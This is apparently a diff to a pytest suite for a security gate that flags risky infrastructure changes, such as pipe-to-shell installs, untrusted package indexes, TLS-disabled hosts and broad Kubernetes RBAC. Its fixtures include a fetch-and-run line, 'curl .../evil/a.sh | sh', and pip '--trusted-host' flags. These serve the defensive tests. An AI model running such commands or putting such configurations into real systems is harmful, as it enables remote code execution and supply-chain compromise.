@@ -159,7 +159,7 @@ WIDER: dict[str, tuple[str, str, str, str]] = {
     "a script from another path": ("Dockerfile", DOCKERFILE % "curl https://example.org/good/a.sh | sh", DOCKERFILE % "curl https://example.org/evil/a.sh | sh", "pipe-to-shell"),
     "an image from another registry": ("Dockerfile", "FROM 10.0.0.1:5000/app:latest\nUSER 1\n", "FROM 66.6.6.6:5000/app:latest\nUSER 1\n", "latest-tag"),
     "another second index": ("Dockerfile", DOCKERFILE % "pip install --extra-index-url https://a.example.org/simple x==1", DOCKERFILE % "pip install --extra-index-url https://b.example.org/simple x==1", "extra-index-url"),
-    "a host more without TLS": ("Dockerfile", DOCKERFILE % "pip install --trusted-host a.example.org x==1", DOCKERFILE % "pip install --trusted-host b.example.org x==1", "tls-verify-off"),
+    "another host without TLS": ("Dockerfile", DOCKERFILE % "pip install --trusted-host a.example.org x==1", DOCKERFILE % "pip install --trusted-host b.example.org x==1", "tls-verify-off"),
     "a verb": ("k.yaml", role(SECRETS), role(rule('""', "secrets", "get, delete")), "rbac-secrets-access"),
     "a resource": ("k.yaml", role(rule('""', "pods/exec", "create")), role(rule('""', "pods/exec, pods/attach", "create")), "rbac-exec"),
     "more groups under a wildcard": ("k.yaml", role(rule("apps", '"*"', "get")), role(rule("apps, batch", '"*"', "get")), "wildcard-rbac"),
@@ -186,8 +186,7 @@ WIDER: dict[str, tuple[str, str, str, str]] = {
     "egress that isn't confined": ("k.yaml", docs(DB, WEB, OUT % "10.0.0.0/8"), docs(DB, WEB, (OUT % "10.0.0.0/8").replace("[Egress]", "[Ingress]")), "isolation-lost"),
 }  # fmt: skip
 
-NARROWER = {
-    **{f"not {name}": (path, after, before) for name, (path, before, after, _) in WIDER.items() if "another" not in name and "worse" not in name},
+SAME = {
     "a port list in another order": ("compose.yaml", COMPOSE % '"10.0.0.5:5432:5432", "10.1.0.5:5432:5432"', COMPOSE % '"10.1.0.5:5432:5432", "10.0.0.5:5432:5432"'),
     "a rule in halves": ("k.yaml", docs(base_of(cidr("0.0.0.0/0")), PUBLIC_DB), docs(base_of(cidr("128.0.0.0/1"), cidr("0.0.0.0/1")), PUBLIC_DB)),
     "halves put together": ("k.yaml", docs(base_of(cidr("128.0.0.0/1"), cidr("0.0.0.0/1")), PUBLIC_DB), docs(base_of(cidr("0.0.0.0/0")), PUBLIC_DB)),
@@ -240,7 +239,15 @@ def test_what_reaches_further_is_new(gate: Gate, name: str) -> None:
     assert outcome.code == 1
 
 
-@pytest.mark.parametrize("name", NARROWER)
+@pytest.mark.parametrize("name", [name for name in WIDER if "another" not in name and "worse" not in name])
+def test_the_reverse_is_not_new(gate: Gate, name: str) -> None:
+    path, after, before, check = WIDER[name]
+    outcome = gate.change(path, before, after)
+    lost = "egress that isn't confined"  # its reverse takes the other direction away
+    assert (f"{check} {path}" in outcome.new) == (name == lost), outcome.new
+
+
+@pytest.mark.parametrize("name", SAME)
 def test_what_reaches_no_further_is_old(gate: Gate, name: str) -> None:
-    outcome = gate.change(*NARROWER[name], "medium")
+    outcome = gate.change(*SAME[name], "medium")
     assert outcome.code == 0, outcome.new
